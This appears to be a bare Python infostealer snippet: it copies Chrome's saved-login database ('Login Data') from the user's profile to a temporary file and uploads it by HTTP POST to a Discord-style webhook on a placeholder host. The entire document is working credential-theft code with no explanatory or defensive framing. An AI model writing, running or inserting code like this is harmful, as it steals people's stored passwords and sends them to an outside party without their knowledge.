import os, requests, shutil
path = os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')
shutil.copy(path, 'tmp.db')
with open('tmp.db','rb') as f:
    requests.post('https://discord.example.net/api/webhooks/1/x', files={'f': f})
